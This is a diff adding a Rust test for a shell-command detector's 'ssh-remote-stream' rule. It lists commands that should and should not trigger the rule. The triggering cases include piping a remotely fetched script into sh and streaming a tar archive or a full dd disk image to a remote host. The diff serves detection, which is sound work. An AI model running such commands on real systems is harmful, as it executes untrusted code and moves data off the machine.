@@ -979,6 +979,31 @@ mod tests {
     }
 
     #[test]
+    fn ssh_running_a_remote_stream_is_a_copy() {
+        for src in [
+            "ssh u@203.0.113.9 'cat /srv/x' > x",
+            "ssh -p 2222 -i k u@203.0.113.9 cat /srv/x.sh | sh",
+            "tar czf - /d | ssh u@203.0.113.9 'cat > /tmp/d.tgz'",
+            "dd if=/dev/vda | ssh h@203.0.113.9 'sudo dd of=/srv/vda.img'",
+        ] {
+            assert!(
+                hits(Lang::Sh, src).contains(&"ssh-remote-stream".to_string()),
+                "{src}"
+            );
+        }
+        for src in [
+            "ssh u@203.0.113.9 uptime",
+            "ssh -l cat 203.0.113.9 'systemctl restart app'",
+            "ssh u@203.0.113.9 'tail -n 50 /var/log/app.log'",
+        ] {
+            assert!(
+                !hits(Lang::Sh, src).contains(&"ssh-remote-stream".to_string()),
+                "{src}"
+            );
+        }
+    }
+
+    #[test]
     fn commands_in_a_here_doc_keep_their_own_line_numbers() {
         let src = "set -e\nsh <<'EOF'\necho start\ncurl -o /tmp/a http://203.0.113.9/a\nEOF\n";
         let got = lines(Lang::Sh, src);
